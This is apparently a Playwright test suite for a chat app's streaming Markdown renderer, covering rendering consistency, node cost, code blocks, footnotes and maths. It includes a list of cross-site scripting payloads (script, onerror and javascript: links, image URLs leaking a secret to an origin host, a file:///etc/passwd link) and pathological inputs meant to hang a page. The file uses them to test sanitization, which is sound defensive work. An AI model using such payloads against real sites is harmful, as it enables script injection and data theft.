"""Answers become nodes: the same ones however they arrive, few of them, and never a hostile one."""

import asyncio

import pytest
from playwright.async_api import Page, expect

from tests.browser.conftest import ROOT, Fake
from tests.browser.steps import answer, ask, ask_and_wait, last_message, run_module

pytestmark = pytest.mark.asyncio(loop_scope="session")

DOCUMENTS = 400
NODES_PER_FINAL_NODE = 4

ALLOWED = {
    *("P", "H1", "H2", "H3", "H4", "H5", "H6", "BLOCKQUOTE", "UL", "OL", "LI", "HR", "BR", "EM"),
    *("STRONG", "S", "CODE", "A", "DIV", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "INPUT"),
    *("CODE-BLOCK", "PRE", "SPAN", "BUTTON", "svg", "path", "SUP", "SECTION", "MATH-TEXT"),
    "CODE-PREVIEW",
    *("math", "mrow", "mi", "mn", "mo", "msup", "msub", "mfrac", "mspace", "mstyle", "mtext"),
}

FRAGMENTS = [
    "# h", "#", "para", "para two", "- a", "- b", "  - c", "* x", "1. one", "2. two", "2", "> q",
    ">", "```js", "```", "~~~", "let x = `a", "/* y", "*/ z()", "    code", "| a | b |",
    "|---|---|", "| 1 | 2 |", "", "", "", "---", "===", "***", "[a]: http://x.y", "'ti", "tle'",
    "[a]", "[a][b]",
    "[b]: <u", "**bold** `c` ~~s~~ https://e.f", "- [ ] t", "- [x] t", "<div>", "<!-- a", "-->",
    "\t", "   x", "!", "[l](javascript:1)", "\\", "&amp;", "     deep", "`", "-", "+ p", "10) n",
    "|", "a|b", "-|-", "  ", "\rz", "hello  ", "&#0;", "漢字 🙂", "![p](http://e.f/g.png)",
    "$$", "$$", "x^2", "\\[", "\\]", "$$ a_1 $$", "\\[ b \\]", "in $a_1$ and $b_2$.", "$5 or $6",
    "\\(c\\) d", "$$e$$ f", "> $$", "$", "[^1]", "[^1]: note $a$", "[^2]: two [^1]", "c[^2] [^3].",
    "[^3]:", "      more", "www.example.org/a_b", "a@example.org", "$\\frac$",
]  # fmt: skip

HOSTILE = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit=1'>",
    "<svg onload='window.hit=1'></svg>",
    "<svg><use href='data:image/svg+xml,x'></use></svg>",
    "<svg><animate href='#x' onbegin='window.hit=1'/></svg>",
    "<math href='javascript:window.hit=1'>x</math>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<object data='ORIGIN/o'></object><embed src='ORIGIN/e'>",
    "<base href='ORIGIN/'><meta http-equiv=refresh content='0;url=ORIGIN/m'>",
    "<link rel=preconnect href='ORIGIN'><link rel=prefetch href='ORIGIN/p'>",
    "<link rel=stylesheet href='ORIGIN/s'><link rel=manifest href='ORIGIN/f'>",
    "<form action='ORIGIN/f'><button formaction='javascript:window.hit=1'>x</button></form>",
    "<style>@import url(ORIGIN/i);</style><p style=\"background:url('ORIGIN/b')\">x</p>",
    "<details open ontoggle='window.hit=1'>x</details>",
    "<template><noscript></template><img src=x onerror='window.hit=1'></noscript>",
    "[x](javascript:window.hit=1) [x](java&#10;script:window.hit=1)",
    "[x](JaVaScRiPt&colon;window.hit=1) [x](\x01javascript:window.hit=1)",
    "[x](data:text/html,<script>hit=1</script>) [x](vbscript:x) [x](file:///etc/passwd)",
    "![x](ORIGIN/?q=SECRET) ![x][1]\n\n[1]: ORIGIN/?r=SECRET",
    "<javascript:window.hit=1> <ORIGIN/auto> ORIGIN/bare",
    "[^1]\n\n[^1]: [x](javascript:window.hit=1)",
    "$\\href{javascript:window.hit=1}{x} \\includegraphics{ORIGIN/g}$",
    "```mermaid\ngraph TD; click A \"javascript:window.hit=1\"\n```",
    "```mermaid\n%%{init: {'htmlLabels': true}}%%\ngraph TD; A[<img src=ORIGIN/l>]\n```",
    "```\"><img/src=ORIGIN/c>\nx\n```",
    "\u202egnp.exe \x1b[31m red",
    "| <img src=ORIGIN/t> |\n|---|\n| ![x](ORIGIN/t2) |",
    '[x](https://example.org "\\"onmouseover=window.hit=1 ")',
]  # fmt: skip

# What a formula asks for is set by name, and paints inside its own box only.
FORBIDDEN = (
    "iframe, img:not(picture-viewer img), object, embed, form[action],"
    " article [style]:not(math, math *)"
)

CHUNKING = """
const { MarkdownView } = await load("dom/markdown-view.js")
const { load: language } = await load("lib/highlight.js")
await language("javascript")
await (await load("lib/maths.js")).loadMaths()
const { whenQuiet } = await load("dom/slices.js")
let seed = argument.seed
const random = (below) => (seed = (seed * 1103515245 + 12345) % 2147483648) % below
const view = () => {
  const root = document.createElement("div")
  document.body.append(root)
  return { root, view: new MarkdownView(root) }
}
const documents = argument.documents ?? Array.from({ length: argument.count }, () => {
  let text = ""
  for (let left = 1 + random(10); left > 0; left--) {
    text += argument.fragments[random(argument.fragments.length)] + (random(12) ? "\\n" : "\\r\\n")
  }
  return text
})
const different = []
const elements = new Set()
const addresses = new Set()
for (const text of documents) {
  const whole = view()
  whole.view.finish(text)
  const cuts = argument.documents
    ? Array.from({ length: text.length }, (_, at) => [at])
    : [Array.from({ length: text.length }, (_, at) => at).filter(() => !random(3))]
  for (const cut of cuts) {
    const grown = view()
    for (const at of cut) grown.view.show(text.slice(0, at))
    grown.view.finish(text)
    await whenQuiet()
    const pair = [grown.root, whole.root].map((root) => root.innerHTML)
    if (!grown.root.isEqualNode(whole.root)) different.push([text, ...pair])
    grown.root.remove()
  }
  for (const one of whole.root.querySelectorAll("*")) elements.add(one.tagName)
  for (const one of whole.root.querySelectorAll("a")) addresses.add(one.href)
  whole.root.remove()
}
return { different: different.slice(0, 2), elements: [...elements], addresses: [...addresses] }
"""

COST = """
const { MarkdownView } = await load("dom/markdown-view.js")
const root = document.createElement("div")
document.body.append(root)
let added = 0
const count = (node) => 1 + [...node.childNodes].reduce((sum, one) => sum + count(one), 0)
const seen = (records) => {
  for (const record of records) for (const node of record.addedNodes) added += count(node)
}
const observer = new MutationObserver(seen)
observer.observe(root, { childList: true, subtree: true })
const view = new MarkdownView(root)
for (let end = 4; end < argument.length; end += 4) {
  view.show(argument.slice(0, end))
  seen(observer.takeRecords())
}
view.finish(argument)
seen(observer.takeRecords())
const final = count(root) - 1
root.remove()
return { added, final }
"""

ANSWER = """## A heading

Some *text* with **bold**, `code`, [a link](https://example.org/a) and https://example.org/b.

1. one
2. two
   - nested **deep**
   - more

| A | B |
|---|--:|
| 1 | 2 |
| 3 | 4 |

```python
def f(x: int) -> str:
    \"\"\"Says.\"\"\"
    return f"{x}"  # done
```

> quoted *text*

"""


async def test_any_way_of_arriving_gives_the_same_nodes(page: Page) -> None:
    argument = {"seed": 7, "count": DOCUMENTS, "fragments": FRAGMENTS}
    result = await run_module(page, CHUNKING, argument)
    assert result["different"] == []
    assert set(result["elements"]) <= ALLOWED


async def test_hostile_markdown_cut_at_any_place_gives_only_allowed_nodes(page: Page) -> None:
    documents = [text.replace("ORIGIN", "https://example.org") for text in HOSTILE]
    result = await run_module(page, CHUNKING, {"seed": 1, "documents": documents})
    assert result["different"] == []
    assert set(result["elements"]) <= ALLOWED
    assert {address.partition(":")[0] for address in result["addresses"]} == {"https"}


async def test_a_hostile_answer_runs_and_fetches_nothing(page: Page, fake: Fake) -> None:
    reached: list[bytes] = []

    async def record(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        reached.append(await reader.read(100))
        writer.close()

    async with await asyncio.start_server(record, "127.0.0.1", 0) as recorder:
        origin = f"http://127.0.0.1:{recorder.sockets[0].getsockname()[1]}"
        text = "\n\n".join(HOSTILE).replace("ORIGIN", origin)
        await fake.order(mode="markdown", text=text)
        await ask_and_wait(page, text)
        await expect(answer(page)).to_contain_text("<script>window.hit = 1</script>")
        await page.reload()
        await expect(answer(page)).to_contain_text("<script>window.hit = 1</script>")
        assert await page.evaluate("window.hit") is None
        forbidden = page.locator(FORBIDDEN)
        assert await forbidden.evaluate_all("(all) => all.map((one) => one.outerHTML)") == []
        links = answer(page).locator("a")
        safe = {"target": "_blank", "rel": "noopener noreferrer nofollow"}
        for name, value in safe.items():
            values = await links.evaluate_all(
                "(all, name) => all.map((one) => one.getAttribute(name))", name
            )
            assert set(values) == {value}
    assert reached == []


@pytest.mark.parametrize(
    "text",
    [
        "*" * 1_000_000,
        ">" * 100_000,
        "\n".join("  " * depth + "- a" for depth in range(2000)),
        "[a](" * 8000,
        "_a" * 50_000,
        "|a|b|\n|-|-|\n" + "|x|y|\n" * 5000,
        "```js\n" + "x" * 1_000_000,
        "`" * 50_000,
        "a $b " * 20_000,
        "$$ a\n" * 20_000,
        "".join(f"x[^{number}]\n\n[^{number}]: y\n\n" for number in range(1000)),
        "$x$ " * 300,
    ],
    ids=[
        *("stars", "quotes", "lists", "links", "underscores", "table", "code-line", "ticks"),
        *("dollars", "open-maths", "notes", "formulas"),
    ],
)
async def test_a_pathological_answer_does_not_hang_the_page(page: Page, text: str) -> None:
    body = """
      const { MarkdownView } = await load("dom/markdown-view.js")
      const root = document.createElement("div")
      const view = new MarkdownView(root)
      view.show(argument.slice(0, argument.length / 2))
      view.finish(argument)
      return root.querySelectorAll("*").length
    """
    assert await asyncio.wait_for(run_module(page, body, text), 15) < 30_000


async def test_the_nodes_made_while_streaming_grow_with_the_text_only(page: Page) -> None:
    for repeats in (4, 16):
        cost = await run_module(page, COST, ANSWER * repeats)
        assert cost["added"] <= NODES_PER_FINAL_NODE * cost["final"], (repeats, cost)


async def test_one_long_list_or_paragraph_makes_few_nodes_too(page: Page) -> None:
    texts = ["- an *item* of `code`\n" * 200, "some **bold** words and " * 200]
    texts.append("```python\n" + "def f(): return 1  # x\n" * 200)
    for text in texts:
        cost = await run_module(page, COST, text)
        assert cost["added"] <= NODES_PER_FINAL_NODE * cost["final"], (text[:20], cost)


async def test_a_selection_survives_while_the_answer_goes_on(page: Page) -> None:
    body = """
      const { MarkdownView } = await load("dom/markdown-view.js")
      const root = document.createElement("div")
      document.body.append(root)
      const view = new MarkdownView(root)
      const text = argument.repeat(3)
      const start = argument.length
      view.show(text.slice(0, start))
      const range = document.createRange()
      range.selectNodeContents(root.querySelector("strong"))
      getSelection().removeAllRanges()
      getSelection().addRange(range)
      for (let end = start; end < text.length; end += 5) view.show(text.slice(0, end))
      view.finish(text)
      const selected = String(getSelection())
      root.remove()
      return selected
    """
    assert await run_module(page, body, ANSWER) == "bold"


async def test_code_is_coloured_labelled_and_copied(page: Page, fake: Fake) -> None:
    await page.context.grant_permissions(["clipboard-read"])
    await fake.order(mode="markdown", text="```python\nimport os\n\nprint('hi')\n```\n")
    await ask_and_wait(page, "code please")
    block = last_message(page).locator("code-block")
    await expect(block.locator(".code-language")).to_have_text("python")
    await expect(block.locator(".code-keyword")).to_have_text("import")
    await block.get_by_role("button", name="Copy code").click()
    await expect(block.get_by_role("button", name="Copied")).to_be_visible()
    assert await page.evaluate("navigator.clipboard.readText()") == "import os\n\nprint('hi')"


async def test_code_can_be_wrapped_and_saved_under_a_fitting_name(page: Page, fake: Fake) -> None:
    text = "```python\nprint('a long line')\n```\n"
    await fake.order(mode="markdown", text=text)
    await ask_and_wait(page, "code please")
    block = last_message(page).locator("code-block")
    wrap = block.get_by_role("button", name="Wrap lines")
    await expect(block.locator("pre")).to_have_css("white-space", "pre")
    await wrap.click()
    await expect(block.locator("pre")).to_have_css("white-space", "pre-wrap")
    await expect(wrap).to_have_attribute("aria-pressed", "true")
    async with page.expect_download() as download:
        await block.get_by_role("button", name="Download code").click()
    saved = await download.value
    assert saved.suggested_filename == "code.py"
    assert (await saved.path()).read_text() == "print('a long line')"


async def test_long_code_is_all_there_at_once_and_coloured_in_slices(page: Page) -> None:
    body = """
      const { MarkdownView } = await load("dom/markdown-view.js")
      const { whenQuiet } = await load("dom/slices.js")
      await (await load("lib/highlight.js")).load("javascript")
      const root = document.createElement("div")
      document.body.append(root)
      new MarkdownView(root).finish("```js\\n" + argument + "\\n```")
      const code = root.querySelector("code")
      const at_once = [code.textContent.trimEnd() === argument, code.children.length]
      await whenQuiet()
      const later = [code.textContent.trimEnd() === argument, code.children.length]
      root.remove()
      return [at_once, later]
    """
    lines = 4000
    code = "\n".join(f"const value{number} = {number} // said" for number in range(lines))
    (there, coloured), (still, all_coloured) = await run_module(page, body, code)
    assert there
    assert coloured < lines
    assert still
    assert all_coloured == lines


async def test_a_footnote_is_reached_from_its_mention_and_back(page: Page, fake: Fake) -> None:
    await fake.order(mode="markdown", text="one[^a] two[^a]\n\n[^a]: The note.\n")
    await ask_and_wait(page, "notes please")
    address = page.url
    mentions = last_message(page).get_by_role("button", name="Footnote 1")
    back = last_message(page).get_by_role("button", name="Back to where footnote 1 is mentioned")
    await mentions.nth(1).click()
    await expect(back).to_be_focused()
    await page.keyboard.press("Enter")
    await expect(mentions.nth(1)).to_be_focused()
    assert page.url == address


async def test_a_formula_becomes_maths_and_a_broken_one_stays_as_it_was(
    page: Page, fake: Fake
) -> None:
    text = "so $x^2$ and\n\n$$\n\\frac{a}{b}\n$$\n\nbut $\\frac{a$ and $5\n"
    await fake.order(mode="markdown", text=text)
    await ask_and_wait(page, "maths please")
    maths = answer(page).locator("math")
    await expect(maths).to_have_count(2)
    await expect(maths.nth(1)).to_have_attribute("display", "block")
    await expect(answer(page).locator("p").last).to_have_text("but $\\frac{a$ and $5")


async def test_copying_works_without_the_clipboard_api(page: Page) -> None:
    await ask_and_wait(page, "**copy** me")
    await page.evaluate(
        "Object.defineProperty(navigator, 'clipboard', { value: undefined, configurable: true })"
    )
    await last_message(page).get_by_role("button", name="Copy answer").click()
    await expect(last_message(page).get_by_role("button", name="Copied")).to_be_visible()
    composer = page.get_by_role("textbox", name="Message")
    await composer.focus()
    await page.keyboard.press("ControlOrMeta+v")
    await expect(composer).to_have_value("**copy** me")


async def test_the_view_follows_only_while_the_reader_is_at_the_end(page: Page, fake: Fake) -> None:
    thread = page.locator("chat-thread")
    await fake.order(mode="markdown", text="line\n\n" * 80)
    await ask_and_wait(page, "many lines")
    distance = "(one) => Math.round(one.scrollHeight - one.scrollTop - one.clientHeight)"
    assert await thread.evaluate(distance) <= 1
    await thread.evaluate("(one) => one.scrollTo(0, 100)")
    jump = page.get_by_role("button", name="Jump to latest")
    await expect(jump).to_be_visible()
    await jump.click()
    await expect(jump).to_be_hidden()
    await fake.order(mode="gate")
    await ask(page, "Count for me")
    await expect(answer(page)).to_have_text("piece 0")
    await thread.evaluate("(one) => one.scrollTo(0, 100)")
    await fake.order(release=0)
    await expect(answer(page)).to_contain_text("piece 4")
    assert await thread.evaluate("(one) => one.scrollTop") == 100


async def test_only_five_modules_know_the_libraries() -> None:
    modules = (ROOT / "static/js").rglob("*.js")
    importing = {path.name for path in modules if "vendor/" in path.read_text(encoding="utf-8")}
    bringing = {"math-text.js", "code-preview.js"}  # a style sheet, and what a frame runs
    assert importing == {"parser.js", "highlight.js", "maths.js"} | bringing
